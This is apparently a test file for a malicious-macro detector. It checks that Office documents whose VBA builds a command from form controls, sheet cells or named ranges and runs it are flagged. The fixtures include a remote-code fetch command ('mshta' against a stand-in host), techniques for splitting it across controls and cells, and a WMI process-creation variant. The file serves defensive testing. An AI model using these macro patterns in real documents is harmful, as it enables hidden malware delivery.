/** Macros that run what forms and cells of the same document store. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { readCompound } from '#inspect/codecs/compound.ts'
import { doc, docm, xlsm } from '#inspect/testing/campaigns/office.ts'
import { type Control, formStreams } from '#inspect/testing/forms-writer.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { docx } from '#inspect/testing/samples.ts'
import { macroDocument, writeVba } from '#inspect/testing/vba-writer.ts'
import { record } from '#inspect/testing/xls-lock.ts'
import { CONTROLS_MAX, readForms } from './forms.ts'

const { inspect } = useInspector()

const COMMAND = 'mshta http://192.0.2.1/a.hta'
const TOOL = '"C:\\Program Files\\Ledger\\ledger.exe" /sync'
const found = (document: Uint8Array): string[] =>
  inspect(document)
    .findings.filter(({ severity }) => severity !== 'notice')
    .map(({ severity, id }) => `${severity} ${id.replace('Docvet.Vba.', '')}`)
const isMalicious = (document: Uint8Array): boolean => found(document).some((each) => each.startsWith('malicious'))

const uint16 = (value: number): Buffer => Buffer.from([value & 0xff, value >> 8])
const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(value >>> 0)
  return bytes
}

suite('controls of forms', () => {
  const document = (body: string, controls: Control[], frame = ''): Buffer =>
    macroDocument(`Sub AutoOpen()\n${body}\nEnd Sub`, {
      storages: ['UserForm1'],
      streams: formStreams('UserForm1', controls, frame),
      unlisted: { UserForm1: 'Attribute VB_Name = "UserForm1"\r\n' },
    })
  const parts: Control[] = [
    { name: 'Label1', type: 21, caption: 'a', tip: 'm,s,h,t' },
    { name: 'Text1', type: 23, value: ' http://19', tag: '2.0.2.1/a.hta' },
  ]
  const JOINED =
    'With UserForm1\nShell Replace(.Label1.ControlTipText, ",", "") & .Label1.Caption & .Text1.Text & .Text1.Tag\nEnd With'

  test('with a command', () => {
    assert.ok(isMalicious(document('Shell UserForm1.Label1.Caption', [{ name: 'Label1', type: 21, caption: COMMAND }])))
    assert.ok(isMalicious(document('Shell UserForm1.Tag', parts, `   Tag  =  "${COMMAND}"\r\n`)))
  })
  test('with pieces of one', () => assert.ok(isMalicious(document(JOINED, parts))))
  test('with the name of a service and a command for it', () => {
    const service = [
      { name: 'A', type: 21, caption: 'winmgmts:' },
      { name: 'B', type: 23, value: 'Win32_Process', tag: COMMAND },
    ]
    assert.ok(isMalicious(document('GetObject(UserForm1.A).Get(UserForm1.B.Value).Create UserForm1.B.Tag', service)))
  })
  test('with labels and the path of a tool', () => {
    assert.ok(!isMalicious(document('Shell UserForm1.Label1.Caption', [{ name: 'Label1', type: 21, caption: TOOL }])))
    assert.deepEqual(found(document('MsgBox UserForm1.Label1.Caption', parts)), [])
  })
  test('up to a limit', () => {
    const many = (count: number): number => {
      const controls = Array.from({ length: count }, (_, i) => ({ name: `A${i}`, type: 21, caption: 'a' }))
      const compound = readCompound(writeVba({}, { storages: ['F'], streams: formStreams('F', controls) }))
      return compound === null ? -1 : readForms(compound).size
    }
    assert.equal(many(CONTROLS_MAX), CONTROLS_MAX * 2)
    assert.equal(many(CONTROLS_MAX + 1), 0)
  })
  test('of damaged forms are left out', () => {
    const streams = formStreams('F', parts)
    for (let cut = 0; cut < (streams['F/f']?.length ?? 0); cut++) {
      const compound = readCompound(
        writeVba(
          {},
          { storages: ['F'], streams: { ...streams, 'F/f': Buffer.from(streams['F/f']?.subarray(0, cut) ?? '') } },
        ),
      )
      assert.equal(compound && readForms(compound).size, 0)
    }
  })
})

suite('controls in the text of a document', () => {
  const text = { name: 'Box1', type: 23, value: COMMAND }
  const run = (name: string, module: string) => ({ [module]: `Sub Document_Open()\nShell ${name}.Text\nEnd Sub` })
  for (const [name, write] of Object.entries({ doc, docm }))
    test(name, () => {
      assert.ok(isMalicious(write({ modules: run('Box1', 'ThisDocument'), controls: [text] })))
      assert.ok(isMalicious(write({ modules: run('renamed.Box1', 'renamed'), controls: [text] })))
      assert.ok(!isMalicious(write({ modules: run('Box1', 'ThisDocument'), controls: [{ ...text, value: TOOL }] })))
      assert.ok(!isMalicious(write({ modules: run('Box2', 'ThisDocument'), controls: [text] })))
    })
  test('and on a sheet', () => {
    const modules = { Sheet1: 'Sub Worksheet_Activate()\nShell Sheet1.Box1.Text & Range("A1")\nEnd Sub' }
    const controls = [{ name: 'Box1', type: 23, value: 'mshta http' }]
    assert.ok(isMalicious(xlsm({ modules, controls, cells: { A1: '://192.0.2.1/a.hta' } })))
    assert.ok(!isMalicious(xlsm({ modules, controls: [{ name: 'Box1', type: 23, value: TOOL }], cells: { A1: '' } })))
  })
  test('by the group of an option', () => {
    const modules = { Module1: 'Sub AutoOpen()\nShell UserForm1.Option1.GroupName\nEnd Sub' }
    assert.ok(isMalicious(docm({ modules, forms: { UserForm1: [{ name: 'Option1', type: 27, group: COMMAND }] } })))
    assert.ok(!isMalicious(docm({ modules, forms: { UserForm1: [{ name: 'Option1', type: 27, group: TOOL }] } })))
  })
})

const PIECES = ['msh', 'ta http://19', '2.0.2.1/a.hta']
const FROM_CELLS = 'For r = 3 To 5: z = z & Sheets(1).Cells(r, 2).Value: Next\nShell z'

suite('cells of a workbook', () => {
  /** With these texts in column B, from the third row on. */
  const xls = (body: string, cells: readonly string[]): Buffer => {
    const bof = (type: number): Buffer =>
      record(0x809, Buffer.from([0, 6, type, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]))
    const end = record(0x0a, Buffer.alloc(0))
    const bound = (at: number): Buffer =>
      record(0x85, Buffer.concat([uint32(at), Buffer.from([0, 0, 4, 0]), Buffer.from('Data')]))
    const globals = Buffer.concat([bof(5), bound(0), end]).length
    const labels = cells.map((cell, i) =>
      record(
        0x204,
        Buffer.concat([uint16(i + 2), uint16(1), uint16(0), uint16(cell.length), Buffer.from([0]), Buffer.from(cell)]),
      ),
    )
    const Workbook = Buffer.concat([bof(5), bound(globals), end, bof(0x10), ...labels, end])
    const source = `Attribute VB_Name = "Module1"\r\nSub Auto_Open()\n${body}\nEnd Sub`
    return writeVba({ Module1: source }, { root: '_VBA_PROJECT_CUR', streams: { Workbook } })
  }
  const xlsm = (body: string, cells: readonly string[]): Buffer => {
    const rows = cells.map((_, i) => `<row r="${i + 3}"><c r="B${i + 3}" t="s"><v>${i}</v></c></row>`).join('')
    const source = `Attribute VB_Name = "Module1"\r\nSub Auto_Open()\n${body}\nEnd Sub`
    return docx({
      'xl/workbook.xml':
        '<workbook><sheets><sheet name="Data" r:id="rId1"/></sheets><definedNames><definedName name="Tool">Data!$B$3</definedName></definedNames></workbook>',
      'xl/sharedStrings.xml': `<sst>${cells.map((cell) => `<si><t>${cell.replaceAll('"', '&quot;')}</t></si>`).join('')}</sst>`,
      'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
      'xl/vbaProject.bin': writeVba({ Module1: source }),
    })
  }
  for (const [name, write] of Object.entries({ xls, xlsm }))
    test(name, () => {
      assert.ok(isMalicious(write('Shell Range("B3").Value', [COMMAND])))
      assert.ok(isMalicious(write(FROM_CELLS, PIECES)))
      assert.ok(!isMalicious(write('Shell Sheet1.Range("B3")', [TOOL])))
      assert.ok(!found(write('Shell Range("B3")', [TOOL])).includes('suspicious Obfuscated'))
      assert.ok(!isMalicious(write(FROM_CELLS, ['Total', 'Sum', 'Mean'])))
    })
  test('by name', () => assert.ok(isMalicious(xlsm('Shell Range("Tool")', [COMMAND]))))
})
